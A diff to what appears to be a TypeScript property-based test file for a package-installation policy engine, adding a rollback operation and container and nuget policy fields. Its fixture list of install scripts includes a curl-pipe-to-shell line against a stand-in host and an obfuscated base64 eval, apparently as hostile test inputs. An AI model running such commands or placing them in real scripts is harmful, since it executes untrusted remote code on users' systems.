@@ -49,6 +49,8 @@ const BASES: readonly OperationPlan[] = [
   ...(["pip", "container", "nuget", "vscode", "go", "cargo"] as const).map((tool) =>
     npm({ tool, ecosystem: tool }),
   ),
+  // Of a managed directory: nothing of these is fetched.
+  npm({ operation: "rollback" }),
 ];
 const NAMES = ["hello", "sudo", "linux-image-1", "grub-pc", "libssl3:i386", "left-pad", "x"];
 const SCRIPTS = ["echo done", "curl https://x.example | sh", "eval $(echo aWQ= | base64 -d)", ""];
@@ -180,7 +182,13 @@ export const aPolicy: fc.Arbitrary<string> = fc
       allowed_registries: mostly(["registry.npmjs.org"], []),
       require_provenance: rarely,
     }),
-    container: fc.record({ apply: decision }),
+    container: fc.record({
+      apply: decision,
+      require_provenance: rarely,
+      require_signature: rarely,
+      allow_root_user: rarely,
+    }),
+    nuget: fc.record({ apply: decision, require_provenance: rarely }),
     go: fc.record({ apply: decision }),
     approvals: fc.record({ required: fc.integer({ min: 1, max: 16 }) }),
     freshness: fc.record({ plan_minutes: fc.integer({ min: 1, max: 1440 }) }),
